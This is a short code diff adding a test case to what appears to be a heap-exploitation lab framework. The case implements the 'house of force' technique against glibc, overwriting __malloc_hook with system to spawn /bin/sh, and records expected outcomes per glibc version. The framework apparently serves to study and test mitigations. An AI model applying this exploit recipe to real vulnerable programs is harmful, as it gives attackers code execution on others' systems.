@@ -52,3 +52,24 @@ technique({
   },
   run: (lab) => force(lab, lab.global()),
 });
+
+technique({
+  name: "house_of_force (onto __malloc_hook)",
+  claim: "malloc runs system",
+  // on i386 libc lies more than PTRDIFF_MAX above the heap: 2.30+ refuse the request quietly
+  arches: ["x86_64"],
+  outcomes: {
+    "2.23": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
+    "2.27": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
+    ...on(LATER, { aborts: "malloc(): corrupted top size", in: "malloc" }),
+  },
+  run(lab: Lab) {
+    const base = lab.leakLibcBase();
+    const binsh = lab.heap.malloc(0x20);
+    lab.writeString(binsh, "/bin/sh");
+    const hook = base + lab.libcOffset("__malloc_hook");
+    force(lab, hook); // malloc returns &__malloc_hook
+    lab.write(hook, base + lab.libcOffset("system"));
+    lab.heap.malloc(binsh); // __malloc_hook(size = binsh, caller): system("/bin/sh")
+  },
+});
